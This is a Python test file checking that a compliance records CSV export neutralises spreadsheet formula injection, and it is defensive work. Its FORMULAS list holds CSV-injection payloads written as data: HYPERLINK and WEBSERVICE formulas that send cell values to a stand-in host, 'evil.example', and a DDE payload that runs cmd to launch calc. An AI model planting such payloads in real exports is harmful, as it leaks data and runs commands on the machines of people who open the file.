"""The Art. 4.2 records CSV is opened in spreadsheets by compliance staff: no cell is read as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from services.reports.provisions import provision_csv
from services.store.lineage_store import QueryResult

COLUMNS = ["provided_at", "recipient_id", "recipient_name", "recipient_address_or_representative", "records"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&C2,"Kobe Logistics")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',
]


def _cells(result: QueryResult) -> list[list[str]]:
    return list(csv.reader(io.StringIO(provision_csv(result), newline="")))[1:]


def test_a_formula_in_a_recipients_name_or_address_is_written_as_text() -> None:
    rows: list[list[object]] = [
        [datetime(2026, 12, 1, tzinfo=UTC), "naniwa-benefits", formula, formula, 3] for formula in FORMULAS
    ]

    written = _cells(QueryResult(COLUMNS, rows))

    for row, formula in zip(written, FORMULAS, strict=True):
        assert row[2] == row[3] == "'" + formula
        assert row[4] == "3"  # numbers as they are


@given(st.text(min_size=1).filter(lambda text: "\x00" not in text))
def test_no_cell_begins_with_what_starts_a_formula(text: str) -> None:
    (row,) = _cells(QueryResult(COLUMNS[:3], [["2026-12-01", "naniwa-benefits", text]]))

    assert not row[2].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert row[2] in {text, "'" + text}  # the value itself, at most quoted
